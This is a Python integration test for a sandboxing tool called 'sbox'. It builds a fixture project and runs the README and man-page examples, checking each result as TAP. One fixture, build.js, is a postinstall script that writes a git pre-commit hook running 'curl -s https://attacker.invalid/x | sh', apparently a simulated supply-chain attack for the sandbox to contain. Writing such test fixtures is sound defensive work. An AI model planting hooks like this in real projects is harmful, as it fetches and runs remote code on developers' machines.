#!/usr/bin/env python3
"""examples.py DOCDIR WORK: runs every example of README.md and the man pages
(doc_examples.py finds them) as written, in a prepared environment, as TAP; started by
tests/integration/examples.sh as the unprivileged test user.

The environment: HOME is WORK/home (so `~/images/debian`, `~/envs/dev`, `~/.config/sbox` are
the test's), `sbox` on PATH is the binary under test, every example runs in `~/proj` (a git
repository with a Node project, a Makefile, a configure script, the scripts the examples name,
debian.tar, an OCI layout ./layout and app.tar, node.tar), and npm is offline
(npm_config_offline, kept by the node and build profiles): no example reaches past loopback.
Images are made when an example needs them (helpers/mkrootfs.py, umoci, skopeo).

An example runs and must exit 0, unless NOT_RUNNABLE lists it (with the reason) or EXPECT
checks more; an entry of either table that no document has any more is a failure too."""
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import doc_examples  # noqa: E402

DOCS, WORK = sys.argv[1], sys.argv[2]
SBOX = os.environ["SBOX"]
HELPERS = os.path.dirname(os.path.abspath(__file__))
HOME = os.path.join(WORK, "home")
PROJ = os.path.join(HOME, "proj")
CLONE = os.path.join(WORK, "clone")
MUST_WORK = bool(os.environ.get("SBOX_MUST_WORK"))
SHELL_INPUT = "touch /example-ran 2>/dev/null; echo example-ran\n"

# Examples that cannot run here, and why (the text as the document has it).
NOT_RUNNABLE = {
    "make check": "the whole suite, of which this test is a part",
    "scripts/sanitize": "rebuilds sbox and runs the whole suite (CI runs it: .ci/run)",
    "make distcheck": "builds the tarball and runs the whole suite (CI runs it: .ci/run)",
    "sbox -v --allow-host example.org -- curl -sI https://example.org/   # each refusal as it"
    " happens": "reaches example.org on the Internet; tests talk to loopback only "
    "(proxy.sh runs allow-host against servers of its own)",
    "sbox image pull docker://registry.example/app:1   # through skopeo (package skopeo)":
    "registry.example is no registry; oci.sh pulls from a docker-registry of its own on "
    "loopback",
    "sbox -p deb -- apt-get install ...": "apt-get and Debian's archive are not in the test "
    "image, nor reachable; the profile itself is loaded (--dry-run)",
    "sbox diff --stat": "names the command of bench/capture.sh, with no capture",
}

# Examples that show what users would expect, where sbox does otherwise: TAP TODO (an
# expected failure) until sbox is fixed; one that passes then is an unexpected pass, which
# fails the suite until its entry here goes.
SBOX_BUGS = {}

results = {"n": 0, "fail": 0}
used = set()


def tap(ok, desc, directive=""):
    results["n"] += 1
    if not ok:
        results["fail"] += 1
    print("%s %d - %s%s" % ("ok" if ok else "not ok", results["n"], desc, directive), flush=True)
    return ok


def diag(*lines):
    for text in lines:
        for line in str(text).splitlines():
            print("# " + line, flush=True)


def environ():
    env = {k: v for k, v in os.environ.items() if not k.startswith("XDG_")}
    env.update(HOME=HOME, PATH=os.path.join(WORK, "bin") + ":" + os.environ["PATH"],
               SHELL="/bin/sh", npm_config_offline="true", npm_config_update_notifier="false",
               npm_config_fund="false")
    env.pop("TERM", None)
    return env


def run(cmd, cwd=PROJ, stdin=SHELL_INPUT, timeout=180, shell=True):
    """(status, stdout, stderr) of CMD run by bash -c (or an argv) in CWD."""
    argv = ["bash", "-c", cmd] if shell else cmd
    try:
        p = subprocess.run(argv, cwd=cwd, input=stdin, capture_output=True, text=True,
                           env=environ(), timeout=timeout, errors="replace",
                           start_new_session=True)
        return p.returncode, p.stdout, p.stderr
    except subprocess.TimeoutExpired as e:
        return -1, e.stdout or "", "timed out after %d s" % timeout


def must(cmd, **kw):
    rc, out, err = run(cmd, **kw)
    if rc != 0:
        raise RuntimeError("preparing: %s: status %d: %s" % (cmd, rc, err.strip()))
    return out


# --- the prepared environment -------------------------------------------------------------

def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)


def prepare():
    os.makedirs(os.path.join(WORK, "bin"))
    os.symlink(SBOX, os.path.join(WORK, "bin", "sbox"))
    # A fresh clone as far as the quick start's ./sbox goes: the binary, its profiles beside it.
    os.makedirs(CLONE)
    shutil.copy2(SBOX, os.path.join(CLONE, "sbox"))
    profiles = os.path.join(os.path.dirname(SBOX), "profiles")
    if os.path.isdir(profiles):
        shutil.copytree(profiles, os.path.join(CLONE, "profiles"))
    os.makedirs(PROJ)
    write(os.path.join(HOME, ".npmrc"), "fund=false\n")
    os.makedirs(os.path.join(HOME, "data", "fixtures"))
    write(os.path.join(HOME, "data", "fixtures", "users.json"), "[]\n")
    # The README's captured build: a postinstall that writes its output and a git hook.
    write(os.path.join(PROJ, "package.json"), json.dumps({
        "name": "demo", "version": "1.0.0", "private": True,
        "scripts": {"postinstall": "node build.js", "test": "node --test",
                    "start": "node server.js",
                    # a dev server as frameworks start one: on localhost
                    "dev": "node -e \"require('http').createServer((q, r) => r.end('dev\\\\n'))"
                           ".listen(3000, 'localhost')\""}},
        indent=2) + "\n")
    write(os.path.join(PROJ, "build.js"),
          "const fs = require('fs');\n"
          "fs.mkdirSync('dist', { recursive: true });\n"
          "fs.writeFileSync('dist/index.js', 'module.exports = 1;\\n');\n"
          "fs.writeFileSync('.git/hooks/pre-commit',\n"
          "  '#!/bin/sh\\ncurl -s https://attacker.invalid/x | sh\\n', { mode: 0o755 });\n")
    write(os.path.join(PROJ, "server.js"),
          "require('http').createServer((q, r) => r.end('hello from npm start\\n'))"
          ".listen(3000);\n")
    write(os.path.join(PROJ, "test", "demo.test.js"),
          "const test = require('node:test');\nconst assert = require('node:assert');\n"
          "test('runs', () => assert.strictEqual(1 + 1, 2));\n")
    write(os.path.join(PROJ, "Makefile"),
          "all: out.txt\nout.txt:\n\techo built >$@\ntest:\n\t@echo tested\n"
          ".PHONY: all test\n")
    write(os.path.join(PROJ, "configure"), "#!/bin/sh\necho 'PREFIX = /usr/local' >config.mk\n",
          0o755)
    for name in ("server", "fetch", "migrate"):
        write(os.path.join(PROJ, name), "#!/bin/sh\necho %s ran\n" % name, 0o755)
    # npm offline in the project too: the build profile does not pass npm_config_*.
    write(os.path.join(PROJ, ".npmrc"), "offline=true\nfund=false\nupdate-notifier=false\n")
    write(os.path.join(PROJ, ".env"), "API_KEY=not-for-the-sandbox\n")
    write(os.path.join(PROJ, "a"), "same\n")
    write(os.path.join(PROJ, "b"), "same\n")
    os.makedirs(os.path.join(PROJ, "data"))
    os.makedirs(os.path.join(PROJ, "fixtures"))
    write(os.path.join(PROJ, ".gitignore"), "debian.tar\nlayout/\napp.tar\nnode.tar\n")
    must("git init -q . && git add -A && git -c user.name=t -c user.email=t@t.invalid "
         "commit -qm init")
    subprocess.run([sys.executable, os.path.join(HELPERS, "mkrootfs.py"), "--tar",
                    os.path.join(PROJ, "debian.tar"), "--debian"], check=True)
    # ./layout:1.0 (busybox, a Cmd), app.tar (the same in docker-archive), node.tar (node, npm).
    must("umoci init --layout layout && umoci new --image layout:1.0 && "
         "umoci unpack --rootless --image layout:1.0 " + WORK + "/bundle >/dev/null")
    subprocess.run([sys.executable, os.path.join(HELPERS, "mkrootfs.py"), "--dir",
                    WORK + "/bundle/rootfs"], check=True)
    must("umoci repack --image layout:1.0 %s/bundle && umoci config --image layout:1.0 "
         "--config.cmd echo --config.cmd 'hello from myapp' && "
         "skopeo copy -q oci:layout:1.0 docker-archive:app.tar:myapp:1.0" % WORK)
    must("umoci init --layout %s/nodelay && umoci new --image %s/nodelay:20 && "
         "umoci unpack --rootless --image %s/nodelay:20 %s/nbundle >/dev/null"
         % (WORK, WORK, WORK, WORK))
    subprocess.run([sys.executable, os.path.join(HELPERS, "mkrootfs.py"), "--dir",
                    WORK + "/nbundle/rootfs", "--node"], check=True)
    must("umoci repack --image %s/nodelay:20 %s/nbundle && "
         "skopeo copy -q oci:%s/nodelay:20 oci-archive:node.tar" % (WORK, WORK, WORK))


def stored(name):
    rc, out, _ = run("sbox image ls", stdin="")
    return any(line.split()[:1] == [name] for line in out.splitlines()[1:])


def needs(text):
    """Makes (or takes away) what an example needs; the text says which."""
    deb = os.path.join(HOME, "images", "debian")
    if re.search(r"sbox import debian\.tar ~/images/debian", text):
        if os.path.exists(deb):
            must("sbox image rm ~/images/debian")
    elif "~/images/debian" in text or "${HOME}/images/debian" in text:
        if not os.path.exists(deb):
            must("sbox import debian.tar ~/images/debian 2>/dev/null")
    if "image rm ~/images/debian ~/envs/dev" in text and not os.path.exists(HOME + "/envs/dev"):
        must("sbox --rootfs ~/images/debian --overlay ~/envs/dev -- true")
    if re.search(r"\bmyapp\b", text) and "image import" not in text and not stored("myapp"):
        must("sbox image import oci:./layout:1.0 myapp 2>/dev/null")
    if "node:20" in text and not stored("node:20"):
        must("sbox image import oci:%s/nodelay:20 node:20 2>/dev/null" % WORK, timeout=600)
    if "oci-archive:node.tar node " in text and stored("node"):
        must("sbox image rm node")


# --- checks beyond the exit status --------------------------------------------------------

def check_quickstart(ex):
    cmd = ex.text.split("&& ", 1)[1]
    tap(True, "%s: scripts/setup not run here (it installs packages as root and builds the "
        "tree; CI runs the quick start on a fresh machine: .ci/run)" % ex.where,
        " # SKIP not runnable here")
    rc, out, err = run(cmd, cwd=CLONE)
    lines = out.splitlines()
    ok = (rc == 0 and len(lines) == 2 and lines[0].startswith("uid=%d(" % os.getuid())
          and lines[1] == "sbox")
    if not tap(ok, "%s: %s: id says who you are, hostname is sbox, the home is empty"
               % (ex.where, cmd)):
        diag("status %d" % rc, out, err)


def check_console(examples):
    """The README's transcript: each sbox line as shown (the id as this run printed it)."""
    ident = None
    for ex in examples:
        text = ex.text if ident is None else ex.text.replace(DOC_ID, ident)
        rc, out, err = run(text, stdin="")
        got = (out + err).splitlines()
        if ident is None:
            m = re.search(r"review: sbox diff ([0-9a-f]+)", out + err)
            ident = m.group(1) if m else "no-capture"
            doc_id = re.search(r"review: sbox diff ([0-9a-f]+)", "\n".join(ex.output))
            if doc_id:
                globals()["DOC_ID"] = doc_id.group(1)
        want = []
        for line in ex.output:
            if line.strip() == "...":
                break
            line = line.replace(DOC_ID, ident) if ident else line
            # npm's own lines vary with its version and the network (offline here): the
            # script lines it echoes are compared, sbox's lines all.
            if ex.text.startswith("sbox -p build -- npm") and not line.startswith(("sbox", ">")):
                continue
            want.append(line)
        missing = []
        pos = 0
        for w in want:
            try:
                pos = got.index(w, pos) + 1
            except ValueError:
                missing.append(w)
        ok = rc == 0 and not missing
        if not tap(ok, "%s: $ %s: status 0 and the output shown" % (ex.where, text)):
            diag("status %d" % rc, "missing: %r" % missing, "got:", out, err)


DOC_ID = "\0"


def check_shell(ex, rc, out, err):
    ok = rc == 0 and "example-ran" in out
    m = re.search(r"--overlay (~/\S+)", ex.text)
    if ok and m:
        upper = os.path.join(HOME, m.group(1)[2:], "upper", "example-ran")
        ok = os.path.exists(upper)
        if not ok:
            diag("no %s" % upper)
    return ok


def check_status_fd(ex, rc, out, err):
    events = [json.loads(line) for line in open(os.path.join(PROJ, "events.jsonl"))]
    kinds = [e["event"] for e in events]
    return rc == 0 and kinds[0] == "started" and kinds[-1] == "exited" and "tested" in out


def check_limits_strict(ex, rc, out, err):
    if rc == 0:
        return True
    # Where no delegated cgroup can enforce memory exactly, the comment's refusal.
    _, chk, _ = run("sbox check --json", stdin="")
    return rc == 125 and len(err.strip().splitlines()) == 1 and "cgroup" in chk


def check_publish(ex):
    """A server example: reached through its published port, then ended."""
    m = re.search(r"--publish (\d+):(\d+)", ex.text)
    port = int(m.group(1))
    p = subprocess.Popen(["bash", "-c", ex.text], cwd=PROJ, env=environ(), text=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, start_new_session=True)
    body, deadline = None, time.monotonic() + 60
    while body is None and time.monotonic() < deadline and p.poll() is None:
        try:
            with urllib.request.urlopen("http://127.0.0.1:%d/" % port, timeout=5) as r:
                body = r.read().decode(errors="replace")
        except (OSError, ValueError):
            time.sleep(0.2)  # polled within the deadline above, not a synchronisation
    try:
        os.killpg(p.pid, signal.SIGTERM)
    except ProcessLookupError:
        pass
    try:
        out, err = p.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        os.killpg(p.pid, signal.SIGKILL)
        out, err = p.communicate()
    desc = "%s: %s: reached on 127.0.0.1:%d" % (ex.where, ex.text, port)
    if ex.text in SBOX_BUGS:
        used.add(ex.text)
        results["n"] += 1
        print("%s %d - %s # TODO %s" % ("ok" if body is not None else "not ok", results["n"],
                                        desc, SBOX_BUGS[ex.text]), flush=True)
        if body is not None:
            results["fail"] += 1    # fixed: its entry in SBOX_BUGS must go
        return
    if not tap(body is not None, desc):
        diag(out, err)


EXPECT = {
    "sbox --rootfs ~/images/debian -- cat /etc/debian_version         # read-only":
    lambda ex, rc, out, err: rc == 0 and out == open("/etc/debian_version").read(),
    "sbox --image myapp                                # its Entrypoint and Cmd, as Docker"
    " runs it": lambda ex, rc, out, err: rc == 0 and out == "hello from myapp\n",
    "sbox -p python --dry-run        # ...; @pip is <your index's hosts> (where each was"
    " found)": lambda ex, rc, out, err: rc == 0 and "@pip is " in out + err,
    "sbox --json-status-fd 3 -- make test 3>events.jsonl": check_status_fd,
    "sbox --memory 512M --limits-strict -- make     # refuse to run if memory cannot be"
    " enforced exactly": check_limits_strict,
    "./sbox -p node -- node --version": lambda ex, rc, out, err: rc == 0 and out.strip()
    == subprocess.run(["node", "--version"], capture_output=True, text=True).stdout.strip(),
}


def shell_like(text):
    cmd = re.sub(r"\s+#.*$", "", text)
    if not cmd.startswith("sbox "):
        return False
    return re.search(r"-- (bash|sh)$", cmd) or "--" not in cmd.split() and not re.search(
        r"sbox (--dry-run|image|import|check|profiles?|captures|diff|apply|discard|ls)\b", cmd)


def run_example(ex):
    text = ex.text
    if text in NOT_RUNNABLE:
        used.add(text)
        tap(True, "%s: %s: %s" % (ex.where, text, NOT_RUNNABLE[text]), " # SKIP not runnable here")
        return
    if text.startswith("scripts/setup && "):
        return check_quickstart(ex)
    if "--publish" in text:
        return check_publish(ex)
    try:
        needs(text)
    except RuntimeError as e:
        return tap(False, "%s: %s: %s" % (ex.where, text, e))
    cwd = CLONE if text.startswith(("./sbox", "source <(./sbox")) else PROJ
    if ex.kind == "alias":
        name = re.match(r"alias (\w+)=", text).group(1)
        rc, out, err = run("shopt -s expand_aliases\n%s\n%s true" % (text, name), cwd=cwd)
        ok = rc == 0
        desc = "%s: %s, then %s true" % (ex.where, text, name)
    else:
        rc, out, err = run(text, cwd=cwd)
        desc = "%s: %s" % (ex.where, text)
        if text in EXPECT:
            used.add(text)
            ok = EXPECT[text](ex, rc, out, err)
        elif shell_like(text):
            ok = check_shell(ex, rc, out, err)
        else:
            ok = rc == 0
    if not tap(ok, desc):
        diag("status %d" % rc, "stdout: " + out[-2000:], "stderr: " + err[-2000:])


def run_profiles(examples):
    """A document's profiles: each written where its first line says, loaded, its command run."""
    todo = []
    for ex in examples:
        m = re.match(r";\s*(\S+)(?:\s*(?:->|:)\s*(.*))?$", ex.header or "")
        path = m.group(1) if m else os.path.join(WORK, "synopsis-%d.ini" % results["n"])
        path = path.replace("~", HOME, 1)
        write(path, ex.text)
        todo.append((ex, path, m.group(2) if m else None))
    for ex, path, cmd in todo:
        if path.endswith(".policy"):
            check = "sbox --seccomp %s --dry-run -- true" % path
        else:
            check = "sbox -p %s --dry-run" % path
        needs(ex.text)
        rc, out, err = run(check, stdin="")
        if not tap(rc == 0, "%s: the profile %s loads (%s)" % (ex.where, path, check)):
            diag(err)
        if cmd:
            run_example(doc_examples.Example(ex.where, "cmd", cmd.strip()))


def main():
    examples = doc_examples.collect(DOCS)
    try:
        prepare()
    except (RuntimeError, subprocess.CalledProcessError) as e:
        tap(False, "the environment the examples need: %s" % e)
        print("1..%d" % results["n"])
        return 1
    by_doc = {}
    for ex in examples:
        by_doc.setdefault(ex.where.split(":")[0], []).append(ex)
    for doc, exs in by_doc.items():
        console = [e for e in exs if e.kind == "console"]
        done_console = False
        for ex in exs:
            if ex.kind == "console":
                if not done_console:
                    check_console(console)
                    done_console = True
            elif ex.kind == "ini":
                continue
            elif ex.kind in ("synopsis", "name"):
                tap(True, "%s: %s: %s, not an example" % (
                    ex.where, ex.text, "a synopsis" if ex.kind == "synopsis"
                    else "names a command"))
            else:
                run_example(ex)
        run_profiles([e for e in exs if e.kind == "ini"])
    for text in list(NOT_RUNNABLE) + list(EXPECT) + list(SBOX_BUGS):
        if text not in used:
            tap(False, "the test's tables name an example no document has: %s" % text)
    diag("%d examples found in README.md, man/sbox.1 and man/sbox.ini.5" % len(examples))
    print("1..%d" % results["n"])
    return 1 if results["fail"] else 0


if __name__ == "__main__":
    sys.exit(main())
